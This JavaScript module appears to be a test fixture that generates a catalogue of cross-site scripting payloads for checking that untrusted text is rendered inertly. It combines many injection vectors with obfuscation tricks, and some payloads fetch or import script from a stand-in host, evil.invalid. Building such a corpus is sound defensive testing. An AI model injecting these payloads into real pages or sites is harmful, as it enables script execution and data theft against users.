// Text that tries to become markup or script: every way in that is known, times what to do there, times how it is
// disguised. None of it may do anything but be read.

const CODES = ['alert(1)', "fetch('//evil.invalid')", "location='//evil.invalid'", "import('//evil.invalid/x.js')"];

const WAYS = [
  (code) => `<script>${code}</script>`,
  (code) => `"><script src="//evil.invalid/x.js">${code}</script>`,
  (code) => `<img src=x onerror="${code}">`,
  (code) => `<img/src/onerror=${code}>`,
  (code) => `<svg onload="${code}"><animate onbegin="${code}" attributeName=x dur=1s></svg>`,
  (code) => `<svg><script>${code}</script><use href="data:image/svg+xml,<svg id=x onload=${code}/>#x"/></svg>`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code) => `<iframe src="javascript:${code}"></iframe>`,
  (code) => `<a href="javascript:${code}">9% more</a>`,
  (code) => `<details open ontoggle="${code}"><summary>4%</summary></details>`,
  (code) => `<video><source onerror="${code}"></video>`,
  (code) => `<audio src onloadstart=${code}>`,
  (code) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
  (code) => `<link rel=stylesheet href=//evil.invalid/x.css onload="${code}">`,
  (code) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  (code) => `<base href=//evil.invalid/><form action=//evil.invalid/><button autofocus onfocus="${code}">`,
  (code) =>
    `<style>@import '//evil.invalid';*{background:url(//evil.invalid)}</style><p style="x:expression(${code})">`,
  (code) => `\${${code}} {{constructor.constructor("${code}")()}} <%= ${code} %>`,
  (code) => `]]><!--<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `<object data="data:text/html,<script>${code}</script>"></object><embed src="javascript:${code}">`,
  (code) => `<body onpageshow="${code}"><marquee onstart="${code}">12%</marquee>`,
  (code) => `<input autofocus onfocus="${code}"><select autofocus onfocus=${code}><textarea autofocus onfocus=${code}>`,
  (code) => `<template><script>${code}</script></template><slot onslotchange="${code}">`,
  (code) =>
    `<x onclick=${code} tabindex=1 autofocus onfocus=${code} style=animation-name:x onanimationstart="${code}">`,
  (code) => `';${code};//\\';${code};//";${code};//--></script><script>${code}</script>`,
  (code) => `<portal src="//evil.invalid"><fencedframe src="//evil.invalid" onload=${code}>`,
];

const DISGUISES = [
  (text) => text,
  (text) => text.replace(/[a-z]+(?=[\s>=/])/gi, (word) => word.toUpperCase()),
  (text) => text.replaceAll(' ', '\t').replaceAll('<', '<\u0000'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('"', '&quot;') + text,
  (text) => [...text].map((letter) => (letter === '<' ? '\uff1c<' : letter)).join(''),
];

export const PAYLOADS = DISGUISES.flatMap((disguise) =>
  WAYS.flatMap((way) => CODES.map((code) => disguise(way(code)))),
);
